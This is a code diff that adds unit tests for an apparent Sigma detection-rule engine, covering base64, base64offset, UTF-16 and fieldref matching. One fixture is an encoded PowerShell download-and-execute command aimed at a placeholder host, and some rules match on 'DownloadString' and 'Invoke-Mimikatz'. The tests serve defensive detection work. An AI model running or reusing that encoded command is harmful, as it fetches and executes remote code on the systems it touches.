@@ -107,6 +107,48 @@ TEST(Sigma, WindashMatchesSlashAndUnicodeDashes) {
   EXPECT_TRUE(r->Matches(Rec({{"A", "powershell -enc abc"}})));
 }
 
+// Expected encodings computed apart with Python's base64 module and the
+// offset rule of the Sigma specification.
+TEST(Sigma, Base64AndBase64Offset) {
+  auto plain = Rule("  sel:\n    A|base64: 'http://'\n  condition: sel\n");
+  EXPECT_TRUE(plain->Matches(Rec({{"A", "aHR0cDovLw=="}})));
+  // "http://" at each of the three offsets inside a longer base64 text.
+  auto off = Rule("  sel:\n    A|base64offset|contains: 'http://'\n  condition: sel\n");
+  EXPECT_TRUE(off->Matches(Rec({{"A", "x aHR0cDovL y"}})));
+  EXPECT_TRUE(off->Matches(Rec({{"A", "ICBodHRwOi8vYQ=="}})));  // "  http://a"
+  EXPECT_TRUE(off->Matches(Rec({{"A", "YSBodHRwOi8vYg=="}})));  // "a http://b"
+  EXPECT_FALSE(off->Matches(Rec({{"A", "aHR0cHM6Ly9h"}})));     // "https://a"
+}
+
+TEST(Sigma, WideBase64AsInPowerShellEncodedCommands) {
+  // powershell -enc of IEX (New-Object Net.WebClient).DownloadString("http://x/y")
+  const std::string enc =
+      "powershell.exe -enc "
+      "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AH"
+      "IAaQBuAGcAKAAiAGgAdAB0AHAAOgAvAC8AeAAvAHkAIgApAA==";
+  auto r = Rule("  sel:\n    A|wide|base64offset|contains: 'DownloadString'\n  condition: sel\n");
+  EXPECT_TRUE(r->Matches(Rec({{"A", enc}})));
+  auto other = Rule("  sel:\n    A|wide|base64offset|contains: 'Invoke-Mimikatz'\n  condition: sel\n");
+  EXPECT_FALSE(other->Matches(Rec({{"A", enc}})));
+  // utf16le is wide; utf16be and utf16 (with its byte order mark) as bytes.
+  auto le = Rule("  sel:\n    A|utf16le|base64offset|contains: 'IEX'\n  condition: sel\n");
+  EXPECT_TRUE(le->Matches(Rec({{"A", enc}})));
+  auto be = Rule("  sel:\n    A|utf16be: 'ab'\n  condition: sel\n");
+  EXPECT_TRUE(be->Matches(Rec({{"A", std::string("\0a\0b", 4)}})));
+  auto bom = Rule("  sel:\n    A|utf16|base64: 'a'\n  condition: sel\n");
+  EXPECT_TRUE(bom->Matches(Rec({{"A", "//5hAA=="}})));  // base64 of FF FE 61 00
+}
+
+TEST(Sigma, FieldrefComparesTwoFieldsOfTheRecord) {
+  auto same = Rule("  sel:\n    SubjectUserName|fieldref: TargetUserName\n  condition: sel\n");
+  EXPECT_TRUE(same->Matches(Rec({{"SubjectUserName", "admin"}, {"TargetUserName", "ADMIN"}})));
+  EXPECT_FALSE(same->Matches(Rec({{"SubjectUserName", "admin"}, {"TargetUserName", "svc"}})));
+  EXPECT_FALSE(same->Matches(Rec({{"SubjectUserName", "admin"}})));  // the other field is missing
+  auto ends = Rule("  sel:\n    Image|fieldref|endswith: OriginalFileName\n  condition: sel\n");
+  EXPECT_TRUE(ends->Matches(Rec({{"Image", "C:\\Temp\\procdump.exe"}, {"OriginalFileName", "procdump.exe"}})));
+  EXPECT_FALSE(ends->Matches(Rec({{"Image", "C:\\Temp\\p.exe"}, {"OriginalFileName", "procdump.exe"}})));
+}
+
 TEST(Sigma, CidrMatchesIpv4AndIpv6) {
   auto r = Rule("  sel:\n    ip|cidr:\n      - '10.0.0.0/8'\n      - 'fe80::/10'\n  condition: sel\n");
   EXPECT_TRUE(r->Matches(Rec({{"ip", "10.20.30.40"}})));
@@ -132,9 +174,12 @@ TEST(Sigma, RefusesWhatItDoesNotSupport) {
   std::string base = "title: t\nid: x\nlogsource:\n  category: webserver\ndetection:\n";
   auto agg = SigmaRule::Parse(base + "  sel:\n    A: 1\n  condition: sel | count() > 5\n", "o");
   EXPECT_FALSE(agg.ok());
-  auto mod = SigmaRule::Parse(base + "  sel:\n    A|base64offset|contains: x\n  condition: sel\n", "o");
+  auto mod = SigmaRule::Parse(base + "  sel:\n    A|expand: '%admins%'\n  condition: sel\n", "o");
   ASSERT_FALSE(mod.ok());
-  EXPECT_NE(mod.status().message().find("base64offset"), std::string::npos);
+  EXPECT_NE(mod.status().message().find("expand"), std::string::npos);
+  auto wild = SigmaRule::Parse(base + "  sel:\n    A|base64: 'a*b'\n  condition: sel\n", "o");
+  ASSERT_FALSE(wild.ok());
+  EXPECT_NE(wild.status().message().find("wildcards cannot be encoded"), std::string::npos);
   auto unknown = SigmaRule::Parse(base + "  sel:\n    A: 1\n  condition: sel and other\n", "o");
   EXPECT_FALSE(unknown.ok());
   auto yaml = SigmaRule::Parse("title: [unclosed\n", "o");
